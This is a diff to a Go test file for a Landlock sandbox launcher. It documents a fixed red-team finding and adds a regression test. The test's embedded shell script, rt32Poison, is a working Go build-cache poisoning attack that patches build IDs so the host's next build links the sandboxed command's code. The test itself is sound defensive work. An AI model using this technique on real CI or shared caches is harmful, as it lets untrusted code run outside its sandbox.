@@ -39,12 +39,32 @@ package launch_test
 //     that is, lies in or contains the start-up list's .config entries
 //     below $XDG_CONFIG_HOME, or its .local/share ones below
 //     $XDG_DATA_HOME (sbx's own environment; through links too).
+//   - FINDING (fixed): the host's build caches in a writable root. Go's
+//     build cache takes a cached package archive whose build ID begins
+//     with the action's ID as built; nothing checks it against the
+//     sources again. With GOCACHE in /tmp (a container's or CI job's
+//     GOCACHE=/tmp/..., or $XDG_CACHE_HOME there), the command built the
+//     host's project (readable) and a variant of its own, pointed the
+//     project's action entry at its own archive with the build ID
+//     patched, and the host's next go build linked and ran the command's
+//     code outside the sandbox, every time
+//     (TestRedTeam32EscGoCachePoison). The same holds for the other
+//     caches whose contents the host's tools use as they are (the module
+//     cache's extracted sources, cargo's registry sources, pip's and uv's
+//     wheels, ccache's objects, pre-commit's environments). Fixed:
+//     CheckWritableRoots (codeCacheDir) refuses (125) a {cwd}, {tmpdir}
+//     or {slash_tmp} that is, lies in or contains GOCACHE, GOMODCACHE
+//     (GOPATH's pkg/mod), CARGO_HOME, RUSTUP_HOME, PIP_CACHE_DIR,
+//     UV_CACHE_DIR, CCACHE_DIR, SCCACHE_DIR or PRE_COMMIT_HOME as sbx's
+//     environment sets them, or their defaults below $XDG_CACHE_HOME,
+//     ~/.cache and the home directory.
 //
 //	go test -count=1 -run 'TestRedTeam32Esc' -v ./targets/landlock/launch
 
 import (
 	"os"
 	"os/exec"
+	"path/filepath"
 	"strings"
 	"testing"
 )
@@ -156,6 +176,7 @@ echo done`
 		if !strings.HasPrefix(tmp, "/tmp/") {
 			t.Skipf("t.TempDir() %s is not in /tmp", tmp)
 		}
+		os.Chmod(filepath.Dir(tmp), 0o755) // t.TempDir's parent is 0700
 		os.Chown(tmp, u.uid, u.uid)
 		rt29Write(t, f.ws, u.uid, map[string]string{"dots/cfg/": "", "dots/share/": ""})
 		rt29Write(t, f.home, u.uid, map[string]string{".config/": ""})
@@ -196,6 +217,121 @@ echo done`
 					os.RemoveAll(c.base + "/fish")
 				}
 			})
+		}
+	})
+}
+
+// rt32Poison is the command's script: $1 the go binary, $2 the host's
+// project (readable, not writable), $3 the host's GOCACHE. It builds the
+// project to learn its compile action's ID, builds a variant that prints
+// "pwned" (in the workspace, whose .git is no repository: no VCS
+// stamping), and points the project's action at the variant's archive, with
+// the archive's build ID changed to begin with the project's action ID.
+const rt32Poison = `set -e
+GO=$1 P=$2 W=$PWD; export GOCACHE=$3 GOTOOLCHAIN=local GOFLAGS= GOENV=off
+id() { GODEBUG=gocachehash=1 "$GO" build "$@" -o "$W/out.bin" . 2>&1 | sed -n 's/^HASH\[build example.com\/p\]: \([0-9a-f]\{64\}\)$/\1/p'; }
+A=$(cd "$P" && id)
+rm -rf evil && mkdir evil && cp "$P/go.mod" evil/ && sed 's/"orig"/"pwned"/' "$P/main.go" > evil/main.go
+E=$(cd evil && id -buildvcs=false)
+a2=$(echo $A | cut -c1-2); e2=$(echo $E | cut -c1-2)
+sed "s/$E/$A/" "$GOCACHE/$e2/$E-a" > "$GOCACHE/$a2/$A-a.tmp"; mv "$GOCACHE/$a2/$A-a.tmp" "$GOCACHE/$a2/$A-a"
+M=$(cut -d' ' -f3 "$GOCACHE/$a2/$A-a")
+python3 - "$GOCACHE/$(echo $M | cut -c1-2)/$M-d" "$E" "$A" <<'PY'
+import sys, base64
+p, e, a = sys.argv[1:]
+enc = lambda h: base64.urlsafe_b64encode(bytes.fromhex(h)[:15]).rstrip(b'=')
+b = open(p, 'rb').read()
+open(p, 'wb').write(b.replace(enc(e), enc(a)))
+PY
+echo poisoned`
+
+// TestRedTeam32EscGoCachePoison: FINDING (fixed), as root and as uid
+// 65534. The host's GOCACHE in /tmp: the command planted a compiled
+// package that the host's next go build of its own project (outside the
+// writable roots) linked, and the program it built printed the command's
+// "pwned". Now refused (125): the cache is untouched and the host's build
+// prints "orig". Control: the same run without GOCACHE in sbx's
+// environment (the host's cache elsewhere) runs, and its own cache in
+// /tmp is the command's alone.
+func TestRedTeam32EscGoCachePoison(t *testing.T) {
+	goBin, err := exec.LookPath("go")
+	if err != nil {
+		t.Skip("go is missing")
+	}
+	if _, err := os.Stat("/usr/bin/python3"); err != nil {
+		t.Skip("python3 is missing")
+	}
+	// A cache with the standard library built, copied for each run (a
+	// fresh one costs each build half a minute).
+	warm := filepath.Join(t.TempDir(), "warm")
+	{
+		d := t.TempDir()
+		os.WriteFile(d+"/go.mod", []byte("module example.com/w\n\ngo 1.22\n"), 0o644)
+		os.WriteFile(d+"/main.go", []byte("package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println() }\n"), 0o644)
+		b := exec.Command(goBin, "build", "-o", d+"/w", ".")
+		b.Dir = d
+		b.Env = append(os.Environ(), "GOCACHE="+warm, "GOTOOLCHAIN=local", "GOFLAGS=")
+		if o, err := b.CombinedOutput(); err != nil {
+			t.Fatalf("warming the cache: %v %s", err, o)
+		}
+	}
+	copyCache := func(t *testing.T, dst string, uid int) {
+		t.Helper()
+		if o, err := exec.Command("cp", "-a", warm, dst).CombinedOutput(); err != nil {
+			t.Fatalf("cp: %v %s", err, o)
+		}
+		filepath.Walk(dst, func(p string, _ os.FileInfo, _ error) error { return os.Lchown(p, uid, uid) })
+	}
+	asUser(t, func(t *testing.T, u user) {
+		f := newFixture(t, u)
+		rt29Write(t, f.outside, u.uid, map[string]string{
+			"p/go.mod":  "module example.com/p\n\ngo 1.22\n",
+			"p/main.go": "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"orig\") }\n",
+		})
+		tmp := t.TempDir()
+		if !strings.HasPrefix(tmp, "/tmp/") {
+			t.Skipf("t.TempDir() %s is not in /tmp", tmp)
+		}
+		cache := filepath.Join(tmp, "gocache")
+		os.Chmod(filepath.Dir(tmp), 0o755) // t.TempDir's parent is 0700
+		os.Chown(tmp, u.uid, u.uid)
+		copyCache(t, cache, u.uid)
+		// hostBuild is the host's go build of its project, run.
+		hostBuild := func() string {
+			t.Helper()
+			out := filepath.Join(tmp, "host.bin")
+			os.Remove(out)
+			b := exec.Command(goBin, "build", "-o", out, ".")
+			b.Dir = f.outside + "/p"
+			b.Env = append(os.Environ(), "GOCACHE="+cache, "GOTOOLCHAIN=local", "GOFLAGS=")
+			if o, err := b.CombinedOutput(); err != nil {
+				t.Fatalf("host go build: %v %s", err, o)
+			}
+			o, _ := exec.Command(out).Output()
+			return strings.TrimSpace(string(o))
+		}
+		if got := hostBuild(); got != "orig" {
+			t.Fatalf("the host's build before the run: %q", got)
+		}
+		args := []string{"--cwd", f.ws, "--profile", "workspace", "--timeout", "120s", "--", "/bin/sh", "-c", rt32Poison, "sh", goBin, f.outside + "/p", cache}
+		r := rtRun(t, rtOpts{u: u, env: []string{"HOME=" + f.home, "GOCACHE=" + cache}, args: args, timeout: 150e9})
+		if r.ExitCode != 125 || !strings.Contains(r.SbxError, "GOCACHE") {
+			t.Errorf("not refused (exit %d, sbx_error %q, stdout %q, stderr %.500q)", r.ExitCode, r.SbxError, r.Stdout, r.Stderr)
+		}
+		if got := hostBuild(); got != "orig" {
+			t.Errorf("the host's next go build printed %q: it linked the command's package, outside the sandbox", got)
+		}
+		// Control: with the host's cache elsewhere, the same command runs
+		// (and poisons only a cache of its own).
+		own := filepath.Join(tmp, "own")
+		copyCache(t, own, u.uid)
+		args[len(args)-1] = own
+		r = rtRun(t, rtOpts{u: u, env: []string{"HOME=" + f.home}, args: args, timeout: 150e9})
+		if r.ExitCode != 0 || !strings.Contains(r.Stdout, "poisoned") {
+			t.Errorf("control: exit %d, sbx_error %q, stdout %q, stderr %.1000q", r.ExitCode, r.SbxError, r.Stdout, r.Stderr)
+		}
+		if got := hostBuild(); got != "orig" {
+			t.Errorf("control: the host's build printed %q", got)
 		}
 	})
 }
